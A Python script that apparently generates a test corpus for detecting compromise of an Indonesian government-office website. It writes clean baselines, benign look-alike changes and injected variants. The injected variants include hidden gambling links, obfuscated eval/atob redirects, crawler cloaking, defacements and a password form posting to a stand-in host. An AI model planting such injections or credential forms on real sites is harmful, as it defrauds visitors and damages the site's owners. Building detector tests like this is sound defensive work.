#!/usr/bin/env python3
"""Writes the pages of this folder: offices' pages in several looks, what attackers do to them, and
what ordinary work does to them. Every host is a documentation name. Run it in this folder; the
same pages come out every time.

    python3 make.py

One row a case in cases.csv: what, verdict, technique, page, baseline, crawler, phone, search, url
"""
import base64, csv, os, random

HOST = 'https://kabcontoh.bawaslu.example/'
BAD = ['promo-%d.example' % i for i in range(1, 60)]
WORDS = ['slot gacor hari ini', 'situs judi online terpercaya', 'rtp live pragmatic play', 'bandar togel singapore',
         'slot88 maxwin', 'deposit pulsa tanpa potongan', 'mahjong ways scatter hitam', 'live draw sgp', 'agen judi bola',
         'link alternatif sbobet', 'poker online', 'slot deposit qris', 'toto macau 4d', 'akun pro thailand gacor']
NEWS = [
  ('Rapat Koordinasi Pengawasan Daftar Pemilih', 'Jajaran pengawas kecamatan mengikuti rapat koordinasi guna menyamakan langkah pengawasan pemutakhiran daftar pemilih.'),
  ('Sosialisasi Pengawasan Partisipatif di Sekolah', 'Pelajar diajak mengenal tugas pengawas pemilu dan cara melaporkan dugaan pelanggaran.'),
  ('Apel Siaga Masa Tenang', 'Seluruh jajaran diingatkan menjaga nama baik lembaga yang dipertaruhkan pada masa tenang.'),
  ('Pengawasan Logistik di Gudang Kabupaten', 'Tim memeriksa jumlah kotak dan bilik suara serta mencatat kerusakan untuk diganti.'),
  ('Penguatan Kapasitas Pengelola Data', 'Pengelola situs berlatih memakai slot penyimpanan 3 GB dan surel resmi lembaga.'),
  ('Penertiban Alat Peraga Kampanye', 'Alat peraga yang masih terpasang ditertibkan bersama satuan polisi pamong praja.'),
  ('Kunjungan Kerja Bawaslu Provinsi', 'Kunjungan membahas kesiapan gudang logistik dan jadwal pengawasan.'),
  ('Rekrutmen Panwaslu Kecamatan Dibuka', 'Pendaftaran dibuka dua pekan; berkas dikirim ke sekretariat pada jam kerja.'),
  ('Lomba Cerdas Cermat Kepemiluan', 'Dua belas sekolah mengirim regu dan mengikuti babak penyisihan di aula kantor.'),
  ('Penyerahan Laporan Keuangan Semester', 'Laporan diserahkan tepat waktu dan dibahas bersama pemeriksa intern.'),
  ('Simulasi Pemungutan Suara', 'Simulasi diikuti warga lanjut usia dan penyandang disabilitas.'),
  ('Jadwal Layanan PPID Selama Cuti Bersama', 'Permohonan informasi tetap diterima secara daring dan dijawab pada hari kerja berikutnya.')]
rows = []

def article(i, n):
    t, p = NEWS[i % len(NEWS)]
    return '<article><h2><a href="/berita/%d">%s</a></h2><time>2026-%02d-%02d</time><p>%s</p></article>' % (n, t, 1 + n % 12, 1 + n % 28, p)

def plain(start=0, n=4, title='Bawaslu Kabupaten Contoh', head='', body='', foot='', desc='Situs resmi Bawaslu Kabupaten Contoh', canon=HOST, lang='id', main=None, nav='', script=''):
    news = '\n'.join(article(start + i, 100 + start + i) for i in range(n))
    return f'''<!DOCTYPE html>
<html lang="{lang}">
<head>
<meta charset="utf-8">
<title>{title}</title>
<meta name="description" content="{desc}">
<link rel="canonical" href="{canon}">
<link rel="stylesheet" href="/tema/utama.css">
{head}
</head>
<body>
<header><a href="/"><img src="/gambar/logo.png" alt="Logo Bawaslu"></a>
<nav><ul><li><a href="/">Beranda</a></li><li><a href="/profil">Profil</a></li><li><a href="/berita">Berita</a></li><li><a href="/ppid">PPID</a></li><li><a href="/lapor">Lapor</a></li>{nav}</ul></nav></header>
<main>
<h1>Berita Terkini</h1>
{main if main is not None else news}
{body}
</main>
<footer><p>Badan Pengawas Pemilihan Umum Kabupaten Contoh. Jam layanan Senin–Jumat 08.00–16.00.</p>{foot}</footer>
{script}
</body>
</html>
'''

def press(start=0, n=6, head='', foot='', body='', title='Bawaslu Kab. Contoh – Ayo Awasi Bersama', script=''):
    """The look of a common blog program."""
    posts = '\n'.join('<div class="post col-md-4"><div class="card"><img class="card-img-top" src="/unggah/%d.jpg" alt=""><div class="card-body"><h3 class="card-title"><a href="/%d/">%s</a></h3><p class="card-text">%s</p><a class="btn btn-primary" href="/%d/">Selengkapnya</a></div></div></div>' % (start + i, start + i, *NEWS[(start + i) % len(NEWS)], start + i) for i in range(n))
    return f'''<!doctype html><html lang="id-ID"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width">
<title>{title}</title><link rel="canonical" href="{HOST}"><meta name="generator" content="Blog 6.5">
<style>.sr-only{{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}}.sub-menu{{display:none}}.menu li:hover .sub-menu{{display:block}}.hero{{background:#900;color:#fff}}@media print{{.post{{display:none}}}}@media (max-width:600px){{.sidebar{{display:none}}}}</style>
<script>window.dataLayer=window.dataLayer||[];function gtag(){{dataLayer.push(arguments)}}gtag('js',new Date());</script>
{head}</head><body class="home blog"><a class="sr-only" href="#isi">Langsung ke isi</a>
<div class="topbar">Telepon (021) 555-0100</div><ul class="menu"><li><a href="/">Beranda</a></li><li><a href="#">Profil</a><ul class="sub-menu"><li><a href="/visi">Visi</a></li><li><a href="/struktur">Struktur</a></li><li><a href="https://bawaslu.go.id/">Bawaslu RI</a></li></ul></li><li><a href="/kontak">Kontak</a></li></ul>
<div class="hero"><h1>Ayo Awasi Bersama</h1><p>Bersama rakyat awasi pemilu</p></div>
<div id="isi" class="row">{posts}</div>{body}
<div class="sidebar"><form action="/cari"><input name="q"></form><h4>Tautan</h4><a href="https://kpu.go.id/">KPU</a> <a href="https://dkpp.go.id/">DKPP</a></div>
<div class="footer"><p>© 2026 Bawaslu Kabupaten Contoh</p>{foot}</div>{script}</body></html>
'''

def old(start=0, n=5, foot='', head='', body=''):
    """A page made of tables, long ago."""
    rowsx = ''.join('<tr><td bgcolor="#eeeeee"><b><a href="baca.php?id=%d">%s</a></b><br>%s</td></tr>' % (start + i, *NEWS[(start + i) % len(NEWS)]) for i in range(n))
    return f'''<html><head><title>.: Panwaslu Kabupaten Contoh :.</title>{head}</head><body bgcolor="#ffffff"><center><table width="780" border="0"><tr><td colspan="2" bgcolor="#cc0000"><font color="#ffffff" size="5">Panwaslu Kabupaten Contoh</font></td></tr><tr><td width="180" valign="top"><a href="index.php">Depan</a><br><a href="profil.php">Profil</a><br><a href="buku.php">Buku Tamu</a></td><td><table>{rowsx}</table>{body}</td></tr><tr><td colspan="2">Pengunjung ke-{4000 + start}</td></tr></table></center>{foot}</body></html>
'''

def write(name, text):
    data = text if isinstance(text, bytes) else text.encode('utf-8')
    with open(name, 'wb') as f:
        f.write(data)
    return name

def case(name, verdict, technique, what, page, baseline='dasar.html', **others):
    write(name + '.html', page)
    row = [what, verdict, technique, name + '.html', baseline]
    for who in ('crawler', 'phone', 'search'):
        row.append(write(f'{name}.{who}.html', others[who]) if who in others else '')
    rows.append(row)

def links(k=6, start=0, words=WORDS):
    return ' '.join('<a href="https://%s/">%s</a>' % (BAD[(start + i) % len(BAD)], words[(start + i) % len(words)]) for i in range(k))

write('dasar.html', plain())
write('dasar-blog.html', press())
write('dasar-tabel.html', old())

# Hidden links, one way of hiding each, in three looks.
ways = [('luar-layar', 'position:absolute;left:-9999px'), ('luar-layar-atas', 'position:fixed;top:-5000px;'), ('display', 'display:none'),
        ('display-penting', 'DISPLAY : none !important'), ('visibility', 'visibility:hidden'), ('opacity', 'opacity:0'), ('opacity-kecil', 'opacity:.01;font-size:1px'),
        ('huruf-nol', 'font-size:0'), ('huruf-1px', 'font-size:1px;line-height:1px'), ('tinggi-nol', 'height:0;overflow:hidden'), ('lebar-1px', 'width:1px;height:1px;overflow:hidden'),
        ('indent', 'text-indent:-9999px'), ('clip', 'position:absolute;clip:rect(0,0,0,0)'), ('clip-path', 'clip-path:inset(100%)'), ('scale', 'transform:scale(0)'),
        ('translate', 'transform:translateX(-9999px)'), ('margin', 'margin-left:-99999px'), ('max-height', 'max-height:0;overflow:hidden'), ('warna', 'color:#ffffff;background-color:#fefefe'),
        ('bening', 'color:transparent'), ('rgba', 'color:rgba(0,0,0,0)'), ('z-dan-jauh', 'position:absolute;z-index:-1;left:-200vw'), ('calc', 'position:absolute;left:calc(-9999px)'), ('font-pendek', 'font:0/0 a')]
makers = [(plain, 'dasar.html'), (press, 'dasar-blog.html'), (old, 'dasar-tabel.html')]
for i, (name, css) in enumerate(ways):
    make, base = makers[i % 3]
    case('sisip-' + name, 'injected', 'hidden-link', 'tautan judi disembunyikan: ' + css, make(foot=f'<div style="{css}">{links(3 + i % 6, i)}</div>'), base)
sheets = [('kelas', '.k9{position:absolute;left:-5000px}', '<div class="k9">%s</div>'), ('id', '#zq{display:none}', '<div id="zq">%s</div>'),
          ('turunan', 'footer .isi > p{font-size:0}', '<div class="isi"><p>%s</p></div>'), ('atribut', '[data-x]{opacity:0}', '<div data-x="1">%s</div>'),
          ('media', '@media screen{.mm{text-indent:-999em}}', '<div class="mm">%s</div>'), ('komentar', '.a/*x*/1,.cc{visi/**/bility:hidden;display:none}', '<p class="cc">%s</p>'),
          ('nama-unsur', 'marquee{height:0;overflow:hidden}', '<marquee>%s</marquee>'), ('anak', '.w:first-child{display:none}', '<div><div class="w">%s</div></div>'),
          ('warna-lembar', '.ww{color:#fff} body{background:#fff}', '<div class="ww">%s</div>')]
for i, (name, css, box) in enumerate(sheets):
    case('lembar-' + name, 'injected', 'hidden-link', 'lewat lembar gaya: ' + css, plain(head=f'<style>{css}</style>', foot=box % links(4, i)))
case('atribut-hidden', 'injected', 'hidden-link', 'atribut hidden', plain(foot=f'<div hidden>{links(5)}</div>'))
case('unsur-noscript', 'injected', 'hidden-link', 'di dalam noscript', press(foot=f'<noscript>{links(5)}</noscript>'), 'dasar-blog.html')
case('unsur-marquee', 'injected', 'hidden-link', 'marquee satu piksel', old(foot=f'<marquee width="1" height="1">{links(7)}</marquee>'), 'dasar-tabel.html')
case('unsur-template', 'injected', 'hidden-link', 'di dalam template', plain(foot=f'<template>{links(5)}</template>'))
case('unsur-bingkai-nol', 'injected', 'frame', 'bingkai 0x0 ke situs judi', plain(foot='<iframe src="https://slot-gacor-77.example/" width="0" height="0"></iframe>'))
case('tautan-kosong', 'injected', 'hidden-link', 'tautan tanpa isi ke situs judi', plain(foot=''.join('<a href="https://gacor%d.example/"></a>' % i for i in range(6))))
case('skrip-sembunyi', 'injected', 'hidden-link', 'skrip menyembunyikan unsur', plain(foot=f'<div id="lk">{links(5)}</div><script>document.getElementById("lk").style.display="none";</script>'))
case('skrip-tulis', 'injected', 'script-text', 'document.write', plain(script="<script>document.write('<div style=\"position:absolute;left:-9999px\">'+'" + links(4) + "</div>');</script>"))
case('skrip-tulis-base64', 'injected', 'script-text', 'document.write(atob())', plain(script='<script>document.write(atob("%s"))</script>' % base64.b64encode(links(4).encode()).decode()))
case('skrip-tulis-unescape', 'injected', 'script-text', 'document.write(unescape())', plain(script="<script>document.write(unescape('%s'))</script>" % ''.join('%%%02x' % b for b in links(3).encode())))
case('teks-tersembunyi', 'injected', 'hidden-text', 'teks judi tersembunyi tanpa tautan', plain(foot='<div style="font-size:0">' + ', '.join(WORDS) + '</div>'))
case('huruf-mirip', 'injected', 'hidden-link', 'huruf mirip dan bertitik', plain(foot='<div style="display:none"><a href="https://promo-3.example/">ѕlоt gасоr</a> <a href="https://promo-4.example/">s.l.o.t g.a.c.o.r</a> <a href="https://promo-5.example/">SL0T MAXW1N</a></div>'))
case('tanpa-kata', 'injected', 'hidden-host', 'tautan terkubur ke banyak situs tanpa kata judi', plain(foot='<div style="position:absolute;left:-9999px">' + ' '.join('<a href="https://%s/">klik</a>' % b for b in BAD[:12]) + '</div>'))
case('spam-obat', 'injected', 'hidden-link', 'iklan obat tersembunyi', plain(foot='<div style="display:none"><a href="https://promo-9.example/">buy viagra</a> <a href="https://promo-8.example/">cheap cialis online pharmacy</a></div>'))
case('kaki-terlihat', 'injected', 'visible-link', 'tautan judi terlihat di kaki', press(foot=links(6)), 'dasar-blog.html')
case('kaki-terlihat-tabel', 'injected', 'visible-link', 'tautan judi terlihat di tabel', old(foot=links(3, 4)), 'dasar-tabel.html')
case('nama-host', 'injected', 'visible-link', 'nama host saja yang bicara', plain(foot='<a href="https://slotgacor-resmi.example/">Mitra kami</a> <a href="https://togel-hari-ini.example/">Info</a>'))
case('halaman-dalam', 'injected', 'doorway', 'tautan ke halaman judi di situs sendiri', plain(foot='<a href="/slot-gacor/">slot gacor</a> <a href="/rtp-live/">rtp live</a> <a href="/togel-hongkong/">togel hongkong</a>'))
case('isi-promosi', 'injected', 'text', 'artikel promosi judi', plain(body='<article><h2>Daftar Slot Gacor Maxwin</h2><p>' + '. '.join(w.capitalize() + ' dengan bonus new member dan gampang menang' for w in WORDS) + '</p></article>'))
# Title, description, addresses.
case('judul', 'injected', 'title', 'judul diganti', plain(title='Situs Slot Gacor Maxwin Terpercaya'))
case('judul-togel', 'injected', 'title', 'judul diganti', press(title='Bandar Togel Online Resmi Hadiah Terbesar'), 'dasar-blog.html')
case('keterangan', 'injected', 'meta', 'keterangan diganti', plain(desc='Daftar slot online deposit pulsa bonus new member 100%'))
case('canonical', 'injected', 'canonical', 'canonical ke situs lain', plain(canon='https://promo-1.example/'))
case('amp', 'injected', 'amp', 'AMP ke situs lain', plain(head='<link rel="amphtml" href="https://promo-2.example/amp/">'))
case('hreflang', 'suspicious', 'hreflang', 'hreflang ke situs lain', plain(head='<link rel="alternate" hreflang="ja" href="https://promo-2.example/ja/">'))
case('jepang', 'injected', 'language', 'halaman Jepang', plain(title='スーパーコピー時計 激安通販', lang='ja', main='<p>' + 'ブランドコピー激安通販専門店。送料無料で最安値。' * 30 + '</p>'))
case('thai', 'injected', 'language', 'halaman Thai', plain(main='<p>' + 'สล็อตเว็บตรง บาคาร่าออนไลน์ เครดิตฟรี ' * 40 + '</p>'))
# Ways out.
out = [('meta', 'meta-refresh', '<meta http-equiv="refresh" content="0; url=https://promo-1.example/">'), ('meta-kutip', 'meta-refresh', "<META HTTP-EQUIV='Refresh' CONTENT=\"3;URL='https://promo-2.example/x'\">"),
       ('lokasi', 'script-redirect', '<script>window.location.href="https://promo-3.example/";</script>'), ('replace', 'script-redirect', '<script>location.replace("//promo-4.example/")</script>'),
       ('waktu', 'script-redirect', '<script>setTimeout(function(){window.location="https://promo-5.example/?a=1"},1500)</script>'),
       ('rujukan', 'script-redirect', '<script>if(document.referrer.indexOf("google")>-1){top.location.href="https://promo-6.example/"}</script>'),
       ('ponsel', 'script-redirect', '<script>if(/Android|iPhone/i.test(navigator.userAgent)){document.location="https://promo-7.example/m"}</script>'),
       ('muat', 'script-redirect', '<script>window.addEventListener("load",function(){location.assign("https://promo-8.example/")})</script>'),
       ('fungsi-dipanggil', 'script-redirect', '<script>function go(){window.location="https://promo-9.example/"} go();</script>'),
       ('peubah', 'script-redirect', '<script>var u="https://promo-10.example/";window.location=u;</script>'),
       ('base64', 'script-redirect-disguised', '<script>location.href=atob("%s")</script>' % base64.b64encode(b'https://promo-11.example/').decode()),
       ('base64-peubah', 'script-redirect-disguised', '<script>var k="%s";var t=atob(k);window.location.replace(t)</script>' % base64.b64encode(b'https://promo-12.example/daftar').decode()),
       ('eval', 'script-redirect-disguised', '<script>eval(atob("%s"))</script>' % base64.b64encode(b'window.location.href="https://promo-13.example/"').decode()),
       ('kode', 'script-redirect-disguised', '<script>location=String.fromCharCode(%s)</script>' % ','.join(str(b) for b in b'https://promo-14.example/')),
       ('hex', 'script-redirect', '<script>window["location"]["href"]="%s"</script>' % ''.join('\\x%02x' % b for b in b'https://promo-15.example/')),
       ('sambung', 'script-redirect', "<script>window.location='ht'+'tps:'+'//pro'+'mo-16.example/'</script>"),
       ('unescape', 'script-redirect-disguised', '<script>eval(unescape("%s"))</script>' % ''.join('%%%02x' % b for b in b'location.href="https://promo-17.example/"')),
       ('balik', 'script-redirect-disguised', '<script>location.href="%s".split("").reverse().join("")</script>' % 'https://promo-18.example/'[::-1]),
       ('ganda', 'script-redirect-disguised', '<script>eval(atob("%s"))</script>' % base64.b64encode(b'location.href=atob("' + base64.b64encode(b'https://promo-19.example/') + b'")').decode())]
for i, (name, technique, tag) in enumerate(out):
    make, base = makers[i % 2]
    case('alih-' + name, 'redirect', technique, 'pengalihan: ' + name, make(head=tag), base)
case('alih-onload', 'redirect', 'script-redirect', 'onload', plain().replace('<body>', '<body onload="location.href=\'https://promo-20.example/\'">'))
# Cloaking.
promo = plain(title='Slot Gacor Hari Ini', main='<p>' + ' '.join(WORDS * 3) + '</p>' + links(8))
case('samar-promosi', 'cloaked', 'cloak-crawler', 'mesin pencari diberi halaman judi', plain(), crawler=promo)
case('samar-tautan', 'cloaked', 'cloak-crawler', 'tautan tersembunyi hanya untuk mesin pencari', press(), 'dasar-blog.html', crawler=press(foot=f'<div style="display:none">{links(12)}</div>'))
case('samar-judul', 'cloaked', 'cloak-crawler', 'judul lain untuk mesin pencari', plain(), crawler=plain(title='Link Slot Gacor Terbaru'))
case('samar-jepang', 'cloaked', 'cloak-crawler', 'mesin pencari diberi halaman Jepang', plain(), crawler='<html lang="ja"><head><title>ブランドコピー激安通販</title></head><body><p>' + '時計 財布 バッグ 送料無料 最安値 ' * 50 + '</p></body></html>')
case('samar-lain', 'cloaked', 'cloak-crawler', 'mesin pencari diberi toko', plain(), crawler='<html><head><title>Toko Sepatu Murah Meriah</title></head><body>' + ''.join('<section><h3>Sepatu model %d</h3><p>Harga terbaik kualitas nomor satu dengan pengiriman cepat ke seluruh negeri</p><a href="https://promo-30.example/%d">Beli</a></section>' % (i, i) for i in range(20)) + '</body></html>')
case('samar-ponsel', 'cloaked', 'cloak-phone', 'ponsel dialihkan', plain(), phone=plain(head='<script>location.href="https://promo-21.example/"</script>'))
case('samar-pencarian', 'cloaked', 'cloak-search', 'pengunjung dari pencarian dialihkan', plain(), search='<html><head><meta http-equiv="refresh" content="0;url=https://promo-22.example/"></head><body></body></html>')
case('samar-pencarian-isi', 'cloaked', 'cloak-search', 'pengunjung dari pencarian diberi halaman judi', old(), 'dasar-tabel.html', search=promo)
# Defacement.
case('rusak-hitam', 'defaced', 'defacement', 'halaman diganti', '<html><head><title>Hacked By Tuan Contoh</title></head><body bgcolor=black><center><font color=red size=7>HACKED BY TUAN CONTOH</font><br><img src=x.gif><p>We Are Legion, Expect Us</p></center></body></html>')
case('rusak-bahasa', 'defaced', 'defacement', 'halaman diganti, bahasa Indonesia', '<html><head><title>Diretas</title></head><body><h1>Situs ini telah diretas</h1><p>Maaf min, kami hanya mengetes keamanan. Perbaiki keamanan situs anda.</p></body></html>', 'dasar-blog.html')
case('rusak-leet', 'defaced', 'defacement', 'huruf angka', '<html><title>0wn3d</title><body><pre>H4ck3d by t34m contoh - greetz to all</pre></body></html>')
case('rusak-judul', 'defaced', 'defacement', 'hanya judul dan kepala', plain(title='Hacked by Anon Contoh', head='').replace('<h1>Berita Terkini</h1>', '<h1>Defaced by Anon Contoh</h1>'))
case('rusak-tanpa-tanda', 'defaced', 'replaced', 'halaman lain tanpa pesan', '<html><head><title>Welcome</title></head><body>' + '<div><span>Lorem ipsum dolor sit amet consectetur adipiscing elit</span><img src="https://promo-40.example/a.jpg"></div>' * 12 + '</body></html>')
case('rusak-judi', 'defaced', 'replaced', 'seluruh halaman menjadi situs judi', '<html><head><title>SLOT GACOR MAXWIN</title></head><body>' + '<section><h2>Slot gacor hari ini rtp live</h2><p>Daftar situs slot online deposit pulsa bonus new member</p><a href="https://promo-41.example/">DAFTAR</a></section>' * 8 + '</body></html>')
# Doubtful: a person should look.
case('ragu-skrip', 'suspicious', 'script-host', 'skrip dari situs tak dikenal', plain(head='<script src="https://cdn-statis.example/x.js"></script>'))
case('ragu-bingkai', 'suspicious', 'frame', 'bingkai dari situs tak dikenal', plain(body='<iframe src="https://sematan.example/w" width="400" height="300"></iframe>'))
case('ragu-formulir', 'suspicious', 'form', 'formulir ke situs lain', plain(body='<form action="https://kumpul.example/x"><input name="nama"></form>'))
case('formulir-sandi', 'injected', 'form', 'formulir sandi ke situs lain', plain(body='<form action="https://kumpul.example/x"><input name="u"><input type="password"></form>'))

# Ordinary work: none of this may raise an alarm.
def fine(name, what, page, base='dasar.html', **others):
    case('baik-' + name, 'clean', 'ordinary', what, page, base, **others)

fine('sama', 'sama persis', plain())
for i in range(1, 9):
    fine('berita-%d' % i, 'berita hari ke-%d' % i, plain(start=i, n=3 + i % 4))
    fine('blog-%d' % i, 'blog hari ke-%d' % i, press(start=i * 2, n=4 + i % 5), 'dasar-blog.html')
for i in range(1, 5):
    fine('tabel-%d' % i, 'pencacah dan berita', old(start=i, n=5 + i), 'dasar-tabel.html')
fine('judol-imbauan', 'imbauan judi daring', plain(main='<article><h2>Imbauan: Jauhi Judi Online</h2><p>Bawaslu bersama Kominfo mengimbau warga menjauhi situs judi online. Istilah seperti slot gacor, rtp live, maxwin, dan togel sering dipakai pelaku untuk memikat korban.</p><p>Laporkan tautan judi online kepada polisi atau Kominfo.</p></article>'))
fine('judol-penangkapan', 'berita polisi', plain(body='<article><h2><a href="/berita/70">Polres Ringkus Bandar Togel Online</a></h2><p>Polisi menangkap tiga tersangka bandar togel dan menyita ponsel berisi situs judi slot. Tersangka dijerat pasal perjudian.</p></article>'))
fine('judol-berita-tautan', 'kepala berita sebagai tautan', press(body='<ul><li><a href="/71">Kominfo Blokir Ribuan Situs Judi Online</a></li><li><a href="/72">Bahaya Slot Online bagi Remaja, Ini Kata Psikolog</a></li><li><a href="/73">PPATK: Perputaran Uang Judi Slot Turun</a></li></ul>'), 'dasar-blog.html')
fine('judol-panjang', 'artikel panjang tentang pemberantasan', plain(main='<article><h2>Pemberantasan Judi Online di Lingkungan Pengawas</h2>' + ''.join('<p>Satgas pemberantasan judi online menemukan modus baru. Pelaku menyisipkan tautan berjudul %s pada situs pemerintah yang lemah. Pegawai yang terlibat dikenai sanksi disiplin menurut undang-undang.</p>' % w for w in WORDS) + '</article>'))
fine('judol-tautan-resmi', 'tautan ke kanal aduan', plain(body='<p>Laporkan <a href="https://aduankonten.id/">konten judi online</a> atau <a href="https://www.komdigi.go.id/">hubungi Komdigi</a>.</p>'))
fine('retas-berita', 'berita peretasan', plain(body='<article><h2>Situs Pemda Diretas, Pemulihan Berlangsung</h2><p>Laman sempat menampilkan tulisan hacked by sebelum dipulihkan oleh tim tanggap insiden. BSSN mendampingi.</p></article>'))
fine('slot-kuota', 'kuota slot 3 GB', plain(main='<article><h2>Penambahan Slot Penyimpanan</h2><p>Setiap kabupaten memperoleh slot 3 GB. Slot yang hampir penuh dapat diperluas; daftar slot tersedia di bagian data. Bonus: pelatihan daring.</p><table><tr><th>Slot</th><th>Terpakai</th></tr><tr><td>slot 1</td><td>2,1 GB</td></tr></table></article>'))
fine('slot-waktu', 'slot waktu dan dana', plain(body='<p>Pilih slot waktu layanan. Dana hibah dan taruhan nama baik lembaga dibahas bersama. RTP (Rencana Tindak Pengendalian) disusun. Diagram scatter terlampir.</p>'))
fine('nama-toto', 'nama orang', plain(body='<p>Sdr. Toto Bandar Sutomo dilantik menjadi pengawas kelurahan. Gacor, burung juara lomba, memeriahkan acara.</p>'))
fine('penggeser', 'gambar bergeser', plain(body='<div class="slide" style="display:block"><img src="/s/1.jpg"></div><div class="slide" style="display:none"><img src="/s/2.jpg"><a href="/berita/5">Baca</a></div><div class="slide" style="display:none"><img src="/s/3.jpg"></div><script>var i=0;setInterval(function(){var s=document.getElementsByClassName("slide");s[i].style.display="none";i=(i+1)%s.length;s[i].style.display="block"},4000);</script>'))
fine('pencacah', 'pencacah pengunjung', plain(foot='<p>Hari ini 312 | Kemarin 501 | Jumlah 120.442</p>'))
fine('kue', 'pemberitahuan kuki', plain(foot='<div id="kuki" style="position:fixed;bottom:0">Situs ini memakai kuki. <a href="/kuki">Pelajari</a><button onclick="this.parentNode.style.display=\'none\'">Setuju</button></div>'))
fine('statistik', 'statistik', press(head='<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>', body='<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=G" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>'), 'dasar-blog.html')
fine('peta', 'peta', plain(body='<iframe src="https://www.google.com/maps/embed?pb=1" width="600" height="400"></iframe>'))
fine('video', 'video', plain(body='<iframe src="https://www.youtube.com/embed/abc"></iframe>'))
fine('medsos', 'media sosial', press(foot='<a href="https://www.facebook.com/x"><i class="fb"></i></a> <a href="https://www.instagram.com/x"><i></i></a> <a href="https://x.com/x"><i></i></a>'), 'dasar-blog.html')
fine('cdn', 'pustaka dari CDN', plain(head='<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap/dist/css/bootstrap.min.css"><script src="https://code.jquery.com/jquery.min.js"></script>'))
fine('spanduk', 'spanduk acara', plain(nav='<li><a href="/pilkada">Pilkada</a></li>', body='<div class="spanduk"><a href="/pilkada"><img src="/s.png" alt="Hari Pemungutan Suara"></a></div>'))
fine('pop', 'kotak muncul', plain(foot='<div class="modal" id="m" style="display:none"><h5>Pengumuman</h5><p>Kantor tutup pada hari libur.</p><a href="/pengumuman">Lihat</a></div><script>window.onload=function(){document.getElementById("m").style.display="block"}</script>'))
fine('menu-lipat', 'menu lipat dengan tautan resmi', plain(nav='<li><ul style="display:none"><li><a href="https://bssn.go.id/">BSSN</a></li><li><a href="https://kpu.go.id/">KPU</a></li><li><a href="https://jdih.go.id/">JDIH</a></li></ul></li>'))
fine('tema-baru', 'tema baru, isi sama', press(start=0, n=6, title='Bawaslu Kabupaten Contoh'))
fine('inggris', 'versi Inggris', plain(lang='en', title='Bawaslu Contoh Regency – Election Supervisor', main='<article><h2><a href="/en/1">Coordination Meeting</a></h2><p>Supervisors met to align their work on the voter list.</p></article>', head='<link rel="alternate" hreflang="en" href="/en/">'))
fine('arab', 'salam Arab', plain(body='<p>السلام عليكم ورحمة الله وبركاته. Selamat Idulfitri, mohon maaf lahir dan batin.</p>'))
fine('pemeliharaan', 'pemeliharaan', '<html><head><title>Sedang Pemeliharaan</title></head><body><div><h1>Situs sedang dalam pemeliharaan</h1><p>Layanan kembali pukul 18.00 WIB.</p></div></body></html>')
fine('klik', 'tombol keluar yang diklik', plain(script='<script>function buka(){window.location.href="https://layanan-mitra.bawaslu.example/"}</script><button onclick="buka()">SIPS</button>'))
fine('https', 'pindah ke https', plain(script='<script>if(location.protocol!=="https:"){location.href="https://kabcontoh.bawaslu.example"+location.pathname}</script>'))
fine('ponsel-sendiri', 'versi ponsel sendiri', plain(), phone='<html lang="id"><head><title>Bawaslu Kab. Contoh</title></head><body><a href="/m">Menu</a><h2>Berita</h2><ul><li><a href="/berita/100">Rapat Koordinasi</a></li><li><a href="/berita/101">Sosialisasi</a></li></ul></body></html>')
fine('robot-sama', 'mesin pencari mendapat halaman yang sama', press(), 'dasar-blog.html', crawler=press(), search=press())
fine('robot-berita-lain', 'mesin pencari sesaat kemudian, satu berita lebih baru', plain(start=1), crawler=plain(start=2), phone=plain(start=1))
fine('robot-ditolak', 'mesin pencari ditolak', plain(), crawler='<html><head><title>403 Forbidden</title></head><body><h1>Forbidden</h1></body></html>')
fine('ramadan', 'hiasan dan jam', plain(head='<style>.hias{position:absolute;top:-20px;left:-30px;opacity:.4}</style>', body='<div class="hias"><img src="/h.png" alt=""></div><script>setInterval(function(){document.title="Bawaslu"},60000)</script>'))
fine('terjemah', 'alih bahasa daring', press(body='<div id="google_translate_element"></div><script src="https://translate.google.com/translate_a/element.js"></script>'), 'dasar-blog.html')
fine('wa', 'tombol pesan', plain(foot='<a href="https://wa.me/620000" style="position:fixed;right:20px;bottom:20px">WA</a>'))
fine('pembaca-layar', 'teks bagi pembaca layar', plain(body='<span style="position:absolute;left:-9999px">Lompat ke isi utama</span><a href="#isi" style="position:absolute;left:-9999px">Isi</a>'))
fine('latin1', 'set huruf lain', plain(body='<p>Café résumé</p>').replace('utf-8', 'iso-8859-1').replace('–', '-').encode('iso-8859-1'))
fine('tunggal', 'aplikasi satu halaman untuk mesin pencari', '<html lang="id"><head><title>SIGAP Bawaslu</title></head><body><div id="root"></div><script src="/app.js"></script></body></html>', '', crawler='<html lang="id"><head><title>SIGAP Bawaslu</title></head><body><div id="root"><h1>SIGAP</h1>' + ''.join('<p>%s. %s</p>' % n for n in NEWS) + '</div></body></html>')

with open('cases.csv', 'w', newline='') as f:
    w = csv.writer(f, lineterminator='\n')
    w.writerow(['what', 'verdict', 'technique', 'page', 'baseline', 'crawler', 'phone', 'search'])
    w.writerows(rows)
print(len(rows), 'cases')
